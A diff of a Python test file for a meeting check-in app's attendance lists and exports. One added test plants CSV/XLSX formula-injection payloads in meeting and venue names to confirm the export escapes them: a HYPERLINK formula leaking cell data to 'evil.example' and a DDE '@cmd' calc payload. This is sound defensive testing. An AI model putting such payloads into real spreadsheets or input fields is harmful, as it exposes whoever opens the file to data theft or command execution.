@@ -5,18 +5,20 @@ from __future__ import annotations
 import csv
 import io
 import re
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
 
 import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from meetcoord.checkin import exports, keys, selfservice
+from meetcoord.checkin import exports, keys
 from meetcoord.checkin.counts import check_out
+from meetcoord.checkin.desk import redeem_credential
 from meetcoord.checkin.lists import attendance_lists
-from meetcoord.checkin.models import Attendance, CheckinConflict
+from meetcoord.checkin.models import Attendance, CheckinConflict, CheckinMethod
 from meetcoord.checkin.offline import upload_offline
-from meetcoord.checkin.services import DeskActor, redeem_credential
+from meetcoord.checkin.services import DeskActor
+from meetcoord.core.db import utcnow
 from meetcoord.directory.models import Gender, StakeholderCategory
 from meetcoord.meetings import invitations, services
 from tests import factories
@@ -82,28 +84,26 @@ def attended(editor, meeting):
     redeem_credential(desk, wita, keys.credential_for(ayu), "n1", scanned_at=T0)
     theo = inv_of(meeting, "Théo Rumbekwan")
     redeem_credential(desk, wit, keys.credential_for(theo), "n2", scanned_at=T0)
-    code = selfservice.kiosk_codes(wita)["url_code"]
-    kadis = inv_of(meeting, "Ir. Yohanes Bili")
-    selfservice.checkin_confirmed(
-        wita,
-        code,
-        kadis.id,
-        "7890",
-        "n3",
-        stand_in={"name": "Drs. Umbu Rehi", "position": "Sekdis"},
+    # The rest as rows at that day's times (the phones' own rules: test_selfcheckin).
+    factories.attendance(
+        inv_of(meeting, "Ir. Yohanes Bili"),
+        at=T0 + timedelta(minutes=10),
+        method=CheckinMethod.KIOSK_CONFIRMED,
+        stand_in_name="Drs. Umbu Rehi",
+        stand_in_position="Sekdis",
     )
-    selfservice.register_walk_in(
-        wita,
-        code,
-        {
-            "name": "=Lalu Ahmad",
-            "organization": "HIMASPI",
-            "category": "tokoh masyarakat",
-            "gender": "L",
-        },
-        "n4",
+    walk_in = factories.person(name="=Lalu Ahmad", category=StakeholderCategory.COMMUNITY_LEADER)
+    factories.attendance(
+        at=T0 + timedelta(minutes=20),
+        meeting_id=meeting.id,
+        person_id=walk_in.id,
+        site_id=wita.id,
+        method=CheckinMethod.WALK_IN,
+        is_walk_in=True,
+        walk_in_organization="HIMASPI",
     )
-    selfservice.record_online(inv_of(meeting, "Maria Daring"))
+    online = inv_of(meeting, "Maria Daring")
+    factories.attendance(online, at=T0 + timedelta(minutes=30), method=CheckinMethod.ONLINE)
     attendance = Attendance.query.filter_by(person_id=ayu.person_id).one()
     check_out(attendance)
     attendance.checked_out_at = datetime(2024, 3, 15, 3, 30, tzinfo=UTC)
@@ -156,6 +156,33 @@ def test_rows_per_site_and_combined(attended):
     assert wit.totals.total == 1
 
 
+def test_a_time_on_another_day_carries_its_date(auth, client, meeting):
+    """An attendance recorded before the window existed (a click eight days early) is
+    never shown as a bare time under the meeting's day; on the day, the time alone."""
+    early = factories.attendance(
+        inv_of(meeting, "Maria Daring"),
+        at=datetime(2024, 3, 6, 18, 59, tzinfo=UTC),  # 01.59 WIB / 02.59 WITA on the 7th
+        method=CheckinMethod.ONLINE,
+    )
+    late_night = factories.attendance(
+        inv_of(meeting, "Théo Rumbekwan"), at=datetime(2024, 3, 15, 15, 30, tzinfo=UTC)
+    )  # 00.30 WIT on the 16th, still the 15th in WITA
+    on_the_day = factories.attendance(inv_of(meeting, "Ir. Yohanes Bili"), at=T0)
+    early.checked_out_at = datetime(2024, 3, 15, 2, 0, tzinfo=UTC)
+    lists = attendance_lists(meeting)
+    rows = {row.attendance_id: row for row in lists.combined.rows}
+    assert (rows[early.id].time_in, rows[early.id].time_out) == (
+        "07-03-2024 02.59 WITA",
+        "10.00 WITA",
+    )
+    assert rows[late_night.id].time_in == "16-03-2024 00.30 WIT"
+    assert rows[on_the_day.id].time_in == "09.05 WITA"
+    csv_text = exports.to_csv(lists.combined).decode("utf-8-sig")
+    assert "07-03-2024 02.59 WITA" in csv_text
+    auth.login("viewer")
+    assert "16-03-2024 00.30 WIT" in text(page(client, meeting))
+
+
 def test_csv_reads_back(attended):
     lists = attendance_lists(attended)
     data = exports.to_csv(lists.sites[0])
@@ -201,6 +228,31 @@ def test_xlsx_reads_back(attended):
     assert recap["Jumlah hadir"] == (3, 1, 1, 5)
     assert recap["Perempuan"][-1] == 2
     assert recap["Penyandang disabilitas"][-1] == 1
+
+
+def test_no_xlsx_cell_is_a_formula_headings_included(attended):
+    """The title and venue names are typed by people: in the heading rows, the sheet's
+    recap and the data rows alike, a leading = + - @ tab or CR starts no formula."""
+    attended.title = '=HYPERLINK("http://evil.example/?"&A8,"Klik")'
+    attended.sites[0].venue.name = "+SUM(1;2)"
+    attended.sites[1].venue.name = "@cmd|' /C calc'!A0"
+    inv_of(attended, "Théo Rumbekwan").person.position = "-2+3"
+    inv_of(attended, "Ir. Yohanes Bili").person.organization.name = "\tDinas"
+    lists = attendance_lists(attended)
+    for data in (exports.to_xlsx(lists), exports.to_xlsx_one(lists.sites[1])):
+        book = load_workbook(io.BytesIO(data))
+        cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        texts = {c.value for c in cells if isinstance(c.value, str)}
+        assert "'@cmd|' /C calc'!A0" in texts
+        assert not any(t.startswith(exports.FORMULA_STARTS) for t in texts)
+    book = load_workbook(io.BytesIO(exports.to_xlsx(lists)))
+    assert book.worksheets[0]["A2"].value == "'" + attended.title
+    assert book.worksheets[0]["B3"].value == "'+SUM(1;2)"
+    rows = list(
+        csv.reader(io.StringIO(exports.to_csv(lists.combined).decode("utf-8-sig")), delimiter=";")
+    )
+    assert not any(value.startswith(exports.FORMULA_STARTS) for row in rows for value in row)
 
 
 def test_pdf_opens_with_names_pages_and_totals(attended):
@@ -302,7 +354,16 @@ def test_manual_checkin_checkout_and_resolve(auth, client, editor, attended):
     assert "Belum Datang" in html  # among those not yet present
     inv = inv_of(attended, "Belum Datang")
     url = f"/meetings/{attended.id}/attendance/checkin"
-    body = {"invitation_id": inv.id, "site_id": attended.sites[0].id, "nonce": "m1"}
+    body = {"invitation_id": inv.id, "site_id": attended.sites[0].id, "nonce": "m0"}
+    closed = auth.client.get(auth.post(url, body).headers["Location"])
+    assert "Registrasi kehadiran sudah ditutup pada Jumat, 15 Maret 2024 pukul 13.00 WITA" in text(
+        closed
+    )
+    assert count(Attendance, Attendance.person_id == inv.person_id) == 0
+    # The same meeting held today: ticking a name is what check-in is open for.
+    attended.start_at = utcnow() - timedelta(minutes=30)
+    attended.end_at = attended.start_at + timedelta(hours=3)
+    body["nonce"] = "m1"
     assert auth.post(url, body).status_code == 302
     assert auth.post(url, body).status_code == 302  # a double click: one attendance
     attendance = Attendance.query.filter_by(person_id=inv.person_id).one()
@@ -318,7 +379,7 @@ def test_manual_checkin_checkout_and_resolve(auth, client, editor, attended):
             {
                 "credential": keys.credential_for(theo),
                 "nonce": "late",
-                "scanned_at": "2024-03-15T09:30+08:00",
+                "scanned_at": (attended.start_at + timedelta(minutes=5)).isoformat(),
             }
         ],
     )
